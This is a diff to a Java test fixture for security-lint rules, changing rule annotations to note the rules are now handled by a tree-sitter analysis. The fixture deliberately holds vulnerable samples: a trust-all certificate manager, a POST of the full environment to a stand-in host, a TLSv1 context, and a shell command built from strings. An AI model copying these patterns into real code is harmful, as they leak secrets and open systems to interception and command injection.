@@ -75,7 +75,7 @@ public class Fixture {
         TrustManager[] managers = new TrustManager[] {
             new X509TrustManager() {
                 public void checkClientTrusted(X509Certificate[] chain, String authType) {}
-                // ruleid: java-trust-all-certificates
+                // site of the retired java-trust-all-certificates (now the tree-sitter analysis')
                 public void checkServerTrusted(X509Certificate[] chain, String authType) {}
                 public X509Certificate[] getAcceptedIssuers() { return new X509Certificate[0]; }
             }
@@ -135,21 +135,21 @@ public class Fixture {
 
     void report(HttpClient client) throws Exception {
         String body = System.getenv().toString();
-        // ruleid: java-environment-sent-over-network
+        // site of the retired java-environment-sent-over-network (now the tree-sitter analysis')
         HttpRequest req = HttpRequest.newBuilder(URI.create("https://x.example/c")).POST(HttpRequest.BodyPublishers.ofString(body)).build();
-        // ok: java-environment-sent-over-network
+        // look-alike of the retired java-environment-sent-over-network (now the tree-sitter analysis')
         HttpRequest ok = HttpRequest.newBuilder(URI.create("https://x.example/c")).POST(HttpRequest.BodyPublishers.ofString(System.getenv("REGION"))).build();
     }
 
     SSLContext old() throws Exception {
-        // ruleid: java-obsolete-tls-version
+        // site of the retired java-obsolete-tls-version (now the tree-sitter analysis')
         return SSLContext.getInstance("TLSv1");
     }
 
     void convert(String name) throws IOException {
-        // ruleid: java-shell-command-built-from-strings
+        // site of the retired java-shell-command-built-from-strings (now the tree-sitter analysis')
         Runtime.getRuntime().exec("convert " + name + " out.png");
-        // ok: java-shell-command-built-from-strings
+        // look-alike of the retired java-shell-command-built-from-strings (now the tree-sitter analysis')
         new ProcessBuilder("convert", name, "out.png").start();
     }
 }
